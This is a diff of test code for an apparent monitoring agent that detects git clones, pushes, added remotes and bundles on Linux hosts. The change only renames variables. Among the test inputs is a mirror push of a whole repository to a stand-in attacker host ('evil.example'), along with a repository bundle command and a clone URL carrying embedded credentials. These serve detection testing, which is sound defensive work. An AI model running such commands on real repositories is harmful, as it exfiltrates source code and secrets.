@@ -42,13 +42,13 @@ function begin(
 describe('agent/collectors/linux/repositories', () => {
   it('reports a clone with its size when it has ended, but not a failed one', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
       () => {
         running(host, 7)
         running(host, 8)
-        begin(code, 7, 'git clone https://ann:pw@github.com/acme/api.git')
-        begin(code, 8, 'git clone https://github.com/acme/gone.git')
+        begin(watched, 7, 'git clone https://ann:pw@github.com/acme/api.git')
+        begin(watched, 8, 'git clone https://github.com/acme/gone.git')
       },
       () => ended(host, 8),
       () => {
@@ -62,11 +62,11 @@ describe('agent/collectors/linux/repositories', () => {
 
   it('a clock that is ahead for a moment does not end a clone', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
       () => {
         running(host, 7)
-        begin(code, 7, 'git clone https://github.com/acme/api.git')
+        begin(watched, 7, 'git clone https://github.com/acme/api.git')
       },
       () => {
         repository(host, '/home/ann/api', 'x', { pack: 1_000 })
@@ -84,9 +84,9 @@ describe('agent/collectors/linux/repositories', () => {
   it('counts commands, folders and remotes beyond its limits', async () => {
     const host = fakeHost({ '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/sh\n' })
     for (let n = 0; n < 5_010; n++) put(host.tree, `/home/ann/src/f${n}/x`, '')
-    const code = repositories()
-    for (let n = 0; n < 300; n++) begin(code, n, `git push https://github.com/acme/r${n}.git`)
-    const [first] = await watchPolls(code.collector, host, [], SOURCE)
+    const watched = repositories()
+    for (let n = 0; n < 300; n++) begin(watched, n, `git push https://github.com/acme/r${n}.git`)
+    const [first] = await watchPolls(watched.collector, host, [], SOURCE)
     const gaps = first!.flatMap((it) => (it.category === 'collection_gap' ? [`${it.About} ${it.Count}`] : []))
     assert.deepEqual(gaps, ['repository 44', 'source roots 11'])
     assert.equal(first!.length, 256 + 2)
@@ -107,9 +107,9 @@ describe('agent/collectors/linux/repositories', () => {
       ],
       SOURCE,
     )
-    const told = reported(polls).flat()
+    const actions = reported(polls).flat()
     assert.deepEqual(
-      [told.filter((it) => it.startsWith('remote_added')).length, told.at(-1)],
+      [actions.filter((it) => it.startsWith('remote_added')).length, actions.at(-1)],
       [64, 'gap remotes of one repository overflow'],
     )
   })
@@ -117,14 +117,14 @@ describe('agent/collectors/linux/repositories', () => {
   it('finds the target of a push in the config', async () => {
     const host = fakeHost({})
     repository(host, '/home/ann/api', 'git@github.com:acme/api.git')
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
-      () => begin(code, 7, 'git push', '/home/ann/api/src/deep'),
-      () => begin(code, 7, 'git push nobody', '/home/ann/api'),
-      () => begin(code, 7, 'git push --mirror https://evil.example/me/x.git', null),
-      () => begin(code, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
-      () => begin(code, 7, 'git bundle create x --all', '/home/ann/api'),
-      () => begin(code, 7, 'git push', null),
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
+      () => begin(watched, 7, 'git push', '/home/ann/api/src/deep'),
+      () => begin(watched, 7, 'git push nobody', '/home/ann/api'),
+      () => begin(watched, 7, 'git push --mirror https://evil.example/me/x.git', null),
+      () => begin(watched, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
+      () => begin(watched, 7, 'git bundle create x --all', '/home/ann/api'),
+      () => begin(watched, 7, 'git push', null),
     ])
     assert.deepEqual(reported(polls).slice(1), [
       ['push github.com acme null'],
@@ -138,13 +138,13 @@ describe('agent/collectors/linux/repositories', () => {
 
   it('reports the same action once an hour', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const push = () => begin(code, 7, 'git push https://h/a/b', null)
+    const watched = repositories()
+    const push = () => begin(watched, 7, 'git push https://h/a/b', null)
     const hour = () => {
       host.clock += HOUR
       push()
     }
-    assert.deepEqual(reported(await watchPolls(code.collector, host, [push, push, hour])), [
+    assert.deepEqual(reported(await watchPolls(watched.collector, host, [push, push, hour])), [
       [],
       ['push h a null'],
       [],
@@ -178,16 +178,16 @@ describe('agent/collectors/linux/repositories', () => {
       ],
       SOURCE,
     )
-    const told = reported(polls)
-    assert.deepEqual(told[0], [])
-    assert.deepEqual(told[12], ['clone github.com acme 9'])
+    const actions = reported(polls)
+    assert.deepEqual(actions[0], [])
+    assert.deepEqual(actions[12], ['clone github.com acme 9'])
     // Without a log it may be an unfinished clone, so it is reported after another sweep.
-    assert.deepEqual(told[24]?.toSorted(), [
+    assert.deepEqual(actions[24]?.toSorted(), [
       'clone github.com acme 0',
       'remote_added evil.example me null',
       'remote_added github.com me null',
     ])
-    assert.equal(told.flat().length, 4)
+    assert.equal(actions.flat().length, 4)
   })
 
   it('reports what came while the agent was stopped, and nothing after a restart alone', async () => {
@@ -205,13 +205,13 @@ describe('agent/collectors/linux/repositories', () => {
 
   it('reports a clone once that is seen as a process and in its folder', async () => {
     const host = fakeHost({ '/home/ann/src/x': '' })
-    const code = repositories()
+    const watched = repositories()
     const polls = await watchPolls(
-      code.collector,
+      watched.collector,
       host,
       [
         () => {
-          begin(code, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
+          begin(watched, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
           repository(host, '/home/ann/src/api', 'https://github.com/acme/api', { log: CLONED, pack: 3 })
         },
         ...MINUTE,
